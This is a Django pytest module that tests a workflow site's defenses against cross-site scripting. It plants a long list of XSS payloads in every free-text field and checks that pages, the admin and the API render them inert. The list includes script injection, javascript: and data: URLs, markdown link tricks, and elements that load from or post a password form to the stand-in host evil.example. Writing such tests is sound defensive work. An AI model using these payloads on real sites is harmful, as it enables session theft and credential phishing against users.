"""Text of people, services and models is only ever text: in pages, the admin, streams and JSON."""

from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest
from django.apps import apps
from django.db import models
from django.test import Client
from django.urls import reverse

from accounts.models import Workspace, WorkspaceModel
from accounts.models.scope import everything
from orchestrator_site.lib.fields import JSONText
from orchestrator_site.lib.markdown import render_markdown
from tests.addresses import in_table
from tests.factories.world import World, plant

pytestmark = pytest.mark.django_db

EVIL = "\"'><img src=//evil.example/x onerror=alert(1)><script>alert(1)</script><svg/onload=alert(1)>{{7*7}}</textarea>"
ADDRESS = "javascript:alert(document.domain)//"
SET = [
    EVIL,
    "</script><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1)>",
    "<math><mi xlink:href=javascript:x>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&#106;avascript:alert(1)",
    "${alert(1)}",
    "`-alert(1)-`",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import '//evil.example'</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "]]><script>alert(1)</script>",
    "\u2028alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr\x0cipt>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/p.png)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<http://evil.example/><img src=x onerror=alert(1)>",
    "![x][y]\n\n[y]: //evil.example/p.png",
    "[x]: <javascript:alert(1)>\n\n[x]",
    "```<script>alert(1)</script>```",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
]
LOADS = {
    "img",
    "iframe",
    "object",
    "embed",
    "video",
    "audio",
    "source",
    "link",
    "script",
    "base",
    "style",
    "svg",
    "math",
}
FREE = {
    "name",
    "title",
    "description",
    "note",
    "help",
    "value",
    "body",
    "comment",
    "status_text",
    "started_by",
    "source",
    "user_template",
    "system",
    "resolved_by",
    "updated_by",
    "cancelled_by",
    "text",
    "op",
}
ADDRESSES = {"external_url", "search_url", "base_url"}
JSON_FIELDS = {
    "inputs",
    "outputs",
    "input",
    "output",
    "error",
    "target",
    "request",
    "result",
    "data",
    "masked",
    "warnings",
    "fields",
    "details",
}
SOUND = {"action", "error", "fields", "inputs", "outputs"}  # of a definition: must stay readable


FOLLOWED = {"href", "src", "action", "formaction", "xlink:href", "data", "hx-get", "hx-post", "srcdoc"}


class Page(HTMLParser):
    """Collects what a browser would run, load or follow because of the planted text."""

    def __init__(self, nonce: str) -> None:
        super().__init__()
        self.nonce, self.found = nonce, []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            text = "".join(ch for ch in (value or "") if ch > " ").lower()
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in FOLLOWED:
                leads = text.startswith(("javascript:", "data:", "vbscript:"))
                if leads or (name != "href" and "evil.example" in text):
                    self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "script":
            said = dict(attrs)
            inert = said.get("type") in ("application/json", "text/template")
            if not said.get("src") and said.get("nonce") != self.nonce and not inert:
                self.found.append("<script> without the nonce")
        if tag in ("iframe", "object", "embed", "base", "math"):
            self.found.append(f"<{tag}>")


def wrong(answer) -> list[str]:
    nonce = answer.headers["Content-Security-Policy"].partition("'nonce-")[2].partition("'")[0]
    page = Page(nonce)
    page.feed(answer.text)
    return page.found + (["49 for 7*7"] if "}}49" in answer.text or '">49' in answer.text else [])


def poison(world: World) -> None:
    """The worst text in every text of the world that is free text."""
    Workspace.objects.filter(pk=world.workspace.pk).update(name=EVIL[:100])
    type(world.owner.user).objects.filter(pk=world.owner.user.pk).update(name=EVIL[:100])
    for model in [m for m in apps.get_models() if issubclass(m, WorkspaceModel)]:
        if model.__name__ in ("AuditEntry", "WorkflowVersion", "DraftRevision"):
            continue
        for row in model._default_manager.of(world.workspace):
            for field in model._meta.concrete_fields:
                _poison(row, model, field)


def _poison(row, model, field) -> None:
    value = None
    if field.name in ADDRESSES:
        value = ADDRESS
    elif isinstance(field, JSONText | models.JSONField):
        if field.name in JSON_FIELDS and model.__name__ not in ("Workflow", "Step"):
            value = (
                []
                if field.name in ("fields", "warnings")
                else {"message": EVIL, EVIL: EVIL, "text": EVIL, "html": EVIL}
            )
    elif field.name in FREE and isinstance(field, models.CharField | models.TextField) and not field.choices:
        value = EVIL[: field.max_length] if field.max_length else EVIL
    if value is not None:
        type(row)._base_manager.filter(pk=row.pk).update(**{field.name: value})


@pytest.fixture
def world():
    made = plant("canary_xss")
    with everything("the test poisons every row"):
        poison(made)
    return made


def test_no_page_runs_or_loads_what_was_planted(world):
    client, failures, seen = world.owner.client, [], 0
    for address in in_table():
        if address.is_api or "GET" not in address.rule or address.name in ("run_events", "readyz"):
            continue
        for query in (
            "",
            "?q=" + "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            "?version=1&from=1&to=draft&tab=output",
        ):
            answer = client.get(address.path(world) + query)
            assert answer.status_code < 500, f"{address.name}: {answer.status_code}"
            if answer.headers.get("Content-Type", "").startswith("text/html"):
                seen += EVIL[:30] in answer.text.replace("&quot;", '"').replace("&#x27;", "'").replace(
                    "&gt;", ">"
                ).replace("&lt;", "<")
                failures += [f"{address.name}{query[:20]}: {each}" for each in set(wrong(answer))]
            else:
                assert not answer.headers.get("Content-Type", "").startswith(
                    ("image/svg", "application/xml", "text/xml")
                )
    assert not failures, "\n".join(failures)
    assert seen > 20, "the planted text was hardly shown, so this proves little"


def test_the_admin_shows_it_as_text_too(world):
    user = world.owner.user
    user.is_staff = user.is_superuser = True
    user.save()
    client = Client(raise_request_exception=False)
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    from django.contrib import admin

    failures = []
    for model in admin.site._registry:
        base = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        paths = [reverse(f"{base}_changelist"), reverse(f"{base}_changelist") + "?q=%22%3E%3Cscript%3E"]
        with everything("the test reads one row of each kind"):
            row = model._default_manager.order_by("-pk").first()
        paths += [reverse(f"{base}_change", args=[row.pk]), reverse(f"{base}_history", args=[row.pk])] if row else []
        for path in paths:
            answer = client.get(path)
            assert answer.status_code < 500, path
            failures += [f"{path}: {each}" for each in set(wrong(answer))] if answer.status_code == 200 else []
    assert not failures, "\n".join(failures)


DATA = ("application/json", "application/vnd.oai", "application/yaml", "application/zip", "text/plain; version=")


def test_streams_and_json_are_never_html(world):
    failures = []
    for address in in_table():
        if not address.is_api or "GET" not in address.rule or address.name in ("api:docs", "seed:docs", "seed:redoc"):
            continue
        if address.name.endswith(("run_events", "docs_oauth2")):
            continue
        answer = world.owner.api.get(address.path(world), headers={"Accept": "*/*"})
        kind = answer.headers["Content-Type"]
        if not kind.startswith(
            ("application/json", "application/vnd.oai", "application/yaml", "application/zip", "text/plain; version=")
        ):
            failures.append(f"{address.name}: {kind}")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize("text", SET)
def test_markdown_from_outside_runs_and_loads_nothing(text):
    page = Page("none")
    page.feed(str(render_markdown(text)))
    assert page.found == []
    assert "<img" not in render_markdown(text) and "<style" not in render_markdown(text)


@pytest.mark.parametrize("text", SET)
def test_names_and_texts_are_taken_whole_and_shown_as_text(owner, text):
    clean = text.replace("\x0c", "").replace("\t", " ").replace("\n", " ")
    body = {
        "format": 1,
        "slug": "bad",
        "name": clean[:120],
        "description": clean,
        "inputs": [{"name": "about", "type": "text", "label": clean[:100], "help": clean[:200], "default": clean}],
        "steps": [
            {"key": "say", "name": clean[:100], "action": "data.format", "with": {"template": "x"}, "note": clean}
        ],
    }
    made = owner.api.post_json("/api/v1/workflows", body)
    assert made.status_code == 201, made.text
    assert made.json()["name"] == clean[:120]
    owner.api.post_json("/api/v1/workflows/bad/publish", {"note": clean[:200]})
    for rest in (
        "",
        "workflows",
        "workflows/bad",
        "workflows/bad/steps/say",
        "workflows/bad/run",
        "workflows/bad/versions",
    ):
        answer = owner.client.get(owner.path(rest))
        assert answer.status_code == 200 and wrong(answer) == [], rest
    shown = owner.client.get(owner.path("workflows/bad/export"))
    assert json.loads(shown.content)["name"] == clean[:120] and "attachment" in shown.headers["Content-Disposition"]


@pytest.mark.parametrize(
    "address",
    [
        ADDRESS,
        "data:text/html,x",
        "//evil.example",
        "https:\\\\evil",
        "https://a@evil.example/",
        "javascript:https://github.com/",
        " java\tscript:x",
        "ftp://x/y",
    ],
)
def test_only_an_address_of_the_web_is_taken_for_where_a_change_is(address):
    world = plant("canary_settle")
    effect = world.things["effect"]
    body = {"answer": "happened", "external_url": address}
    refused = world.owner.api.post_json(f"/api/v1/effects/{effect.pk}/settle", body)
    assert refused.status_code == 400 and refused.json()["error"]["code"] in ("E_URL", "E_TEXT_CONTROL"), refused.text
    body["external_url"] = "https://github.com/acme/orders/issues/1#issue-1"
    assert world.owner.api.post_json(f"/api/v1/effects/{effect.pk}/settle", body).status_code == 200
